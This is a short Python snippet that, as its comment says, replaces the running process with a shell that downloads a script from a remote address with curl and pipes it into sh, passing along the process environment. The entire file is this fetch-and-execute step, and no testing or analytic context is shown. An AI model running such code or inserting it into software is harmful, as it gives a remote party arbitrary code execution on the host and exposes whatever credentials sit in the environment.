import os

# replace this process with a shell fed from the network
os.execlpe("sh", "sh", "-c", "curl -fsSL http://203.0.113.9/s | sh", os.environ)
